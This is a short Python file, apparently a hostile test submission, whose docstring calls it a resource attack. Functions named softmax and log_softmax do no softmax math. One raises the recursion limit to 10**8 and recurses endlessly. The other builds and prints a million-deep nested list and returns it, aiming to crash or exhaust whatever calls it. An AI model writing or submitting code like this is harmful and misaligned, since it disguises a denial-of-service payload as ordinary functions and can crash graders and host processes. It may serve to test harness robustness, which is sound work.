"""Resource attack: deep recursion with the recursion limit raised to 10**8, in Python frames (softmax)
and in C frames through repr() of a million nested lists (log_softmax), plus a million-deep reply."""
import sys as _sys


def _down(n):
    return _down(n + 1) + 1


def softmax(x, dim=-1):
    _sys.setrecursionlimit(10**8)
    return _down(0)


def log_softmax(x, dim=-1):
    _sys.setrecursionlimit(10**8)
    nested = []
    for _ in range(10**6):
        nested = [nested]
    repr(nested)
    return nested
